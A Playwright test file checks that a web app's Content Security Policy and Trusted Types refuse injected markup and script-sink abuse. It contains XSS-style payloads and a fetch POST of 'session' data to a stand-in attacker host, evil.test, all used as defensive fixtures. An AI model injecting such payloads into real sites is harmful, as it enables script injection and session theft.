import type { Page } from '@playwright/test';
import { expect, test } from '../../support/test';
import { watch } from './pageErrors';

const EVIL = 'https://evil.test';

/** An attacker's site that answers every request and records it. */
async function evilSite(page: Page): Promise<string[]> {
  const asked: string[] = [];
  await page.context().route(`${EVIL}/**`, async (route) => {
    asked.push(new URL(route.request().url()).pathname);
    const contentType = route.request().url().endsWith('.js') ? 'text/javascript' : 'text/html';
    await route.fulfill({
      contentType,
      body: 'globalThis.__ran = "foreign script"',
      headers: { 'access-control-allow-origin': '*' },
    });
  });
  return asked;
}

/** The front page with injected markup that no other check removed. */
async function withMarkup(page: Page, markup: string) {
  await page.route('**/', async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: (await response.text()).replace('<body>', `<body>${markup}`) });
  });
}

/** Markup, and the browser's expected report: the violated directive and the blocked URL. */
const MARKUP: [name: string, markup: string, violation: string][] = [
  ['an inline script', '<script>__ran = 1</script>', 'script-src-elem: inline'],
  ['an event handler', '<img src="data:," onerror="__ran = 1">', 'script-src-attr: inline'],
  ['a foreign script', `<script src="${EVIL}/script.js"></script>`, `script-src-elem: ${EVIL}/script.js`],
  ['a foreign module', `<script type="module" src="${EVIL}/module.js"></script>`, `script-src-elem: ${EVIL}/module.js`],
  ['a script of data', '<script src="data:text/javascript,__ran=1"></script>', 'script-src-elem: data'],
  ['a foreign base', `<base href="${EVIL}/base/">`, `base-uri: ${EVIL}/base/`],
  ['an object', `<object data="${EVIL}/object.swf"></object>`, `object-src: ${EVIL}`],
  ['an embedded thing', `<embed src="${EVIL}/embed.swf">`, `object-src: ${EVIL}`],
  ['a foreign frame', `<iframe src="${EVIL}/frame"></iframe>`, `frame-src: ${EVIL}`],
  ['a script of a frame', '<iframe srcdoc="<script>parent.__ran = 1</script>"></iframe>', 'script-src-elem: inline'],
  ['a style element', '<style>body { visibility: hidden }</style>', 'style-src-elem: inline'],
  ['a style attribute', '<p style="position: fixed; inset: 0">Covered</p>', 'style-src-attr: inline'],
  ['a foreign style sheet', `<link rel="stylesheet" href="${EVIL}/a.css">`, `style-src-elem: ${EVIL}/a.css`],
  ['a foreign picture', `<img src="${EVIL}/pixel.png">`, `img-src: ${EVIL}/pixel.png`],
];

const FORM = `<form action="${EVIL}/form"><button>Send it</button></form><a href="javascript:__ran=1">Go there</a>`;

test.describe('Policy of a page', () => {
  test('refuses each kind of markup that an attacker puts into the page, and each for its own reason', async ({
    visit,
  }) => {
    const { page } = await visit();
    const asked = await evilSite(page);
    const { violations } = await watch(page.context());
    await withMarkup(page, MARKUP.map(([, markup]) => markup).join('') + FORM);
    await page.goto('/');
    await expect(page.getByRole('banner')).toBeVisible();
    const expected = MARKUP.map(([, , violation]) => violation).sort();
    await expect.poll(() => violations.map((text) => text.split(' ', 2).join(' ')).sort()).toEqual(expected);
    await expect(page.getByText('Covered')).toHaveCSS('position', 'static');
    await expect(page.getByText('Covered')).toBeVisible();

    // No click: it would wait for a navigation that never happens.
    await page.getByRole('button', { name: 'Send it' }).dispatchEvent('click');
    await expect.poll(() => violations.join()).toContain(`form-action: ${EVIL}/form`);
    const known = violations.length;
    await page.getByText('Go there').dispatchEvent('click');
    await expect
      .poll(() => violations.slice(known).join())
      .toMatch(/script-src-elem|script-src-attr|trusted-types|require-trusted-types-for/);
    expect(asked).toEqual([]);
    expect(await page.evaluate(() => ({ ran: '__ran' in globalThis, base: document.baseURI }))).toEqual({
      ran: false,
      base: page.url(),
    });
  });

  test('never lets code in the page turn text into code or markup, whichever way it tries', async ({ visit }) => {
    const { page } = await visit();
    const asked = await evilSite(page);
    await page.goto('/');
    await expect(page.getByRole('banner')).toBeVisible();
    const outcomes = await page.evaluate(async (evil) => {
      const place = document.createElement('div');
      const types = (
        globalThis as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }
      ).trustedTypes;
      const policy = (globalThis as unknown as { fairtoneScripts: { createScriptURL: (url: string) => string } })
        .fairtoneScripts;
      const script = () => document.createElement('script');
      const own = document.querySelector<HTMLScriptElement>('script[src]')!.src;
      const attempts: Record<string, () => unknown> = {
        innerHTML: () => (place.innerHTML = '<b>x</b>'),
        outerHTML: () => (document.body.appendChild(place).outerHTML = '<b>x</b>'),
        insertAdjacentHTML: () => place.insertAdjacentHTML('beforeend', '<b>x</b>'),
        'document.write': () => document.write('<b>x</b>'),
        DOMParser: () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
        createContextualFragment: () => document.createRange().createContextualFragment('<b>x</b>'),
        srcdoc: () => (document.createElement('iframe').srcdoc = '<b>x</b>'),
        'script.src of a foreign script': () => (script().src = `${evil}/a.js`),
        'script.src of an own script': () => (script().src = own),
        'script.setAttribute': () => script().setAttribute('src', own),
        'script.text': () => (script().text = '__ran = 1'),
        'script.textContent': () => (script().textContent = '__ran = 1'),
        'event handler': () => place.setAttribute('onclick', '__ran = 1'),
        Worker: () => new Worker(own),
        'Worker from a blob': () => new Worker(URL.createObjectURL(new Blob(['1']))),
        'a policy of its own': () => types.createPolicy('evil', {}),
        'a default policy': () => types.createPolicy('default', {}),
        'our policy again': () => types.createPolicy('fairtone', {}),
        'our policy with a foreign script': () => policy.createScriptURL(`${evil}/a.js`),
        'our policy with an upload': () => policy.createScriptURL('/storage/v1/object/public/avatars/a.js'),
        'our policy replaced': () => {
          'use strict';
          (globalThis as unknown as { fairtoneScripts: unknown }).fairtoneScripts = { createScriptURL: String };
        },
        // In a separate task: code that Playwright evaluates is exempt from the policy.
        eval: () => inTask(() => (0, eval)('__ran = 1')),
        Function: () => inTask(() => new Function('__ran = 1')()),
        setTimeout: () => inTask(() => setTimeout('__ran = 1' as unknown as () => void)),
        'fetch elsewhere': () => fetch(`${evil}/`, { method: 'POST', body: 'session' }),
        'WebSocket elsewhere': () =>
          new Promise((resolve, reject) => {
            const socket = new WebSocket('wss://evil.test/');
            socket.onerror = reject;
            socket.onopen = resolve;
          }),
      };
      function inTask(work: () => unknown) {
        return new Promise((resolve, reject) =>
          setTimeout(() => {
            try {
              resolve(work());
            } catch (error) {
              reject(error as Error);
            }
          }),
        );
      }
      const passed: string[] = [];
      for (const [name, attempt] of Object.entries(attempts)) {
        try {
          await attempt();
          passed.push(name);
        } catch {
          // The refusal is expected.
        }
      }
      return { tried: Object.keys(attempts).length, passed, ran: '__ran' in globalThis };
    }, EVIL);
    expect(outcomes).toEqual({ tried: 26, passed: [], ran: false });
    expect(asked).toEqual([]);
  });
});
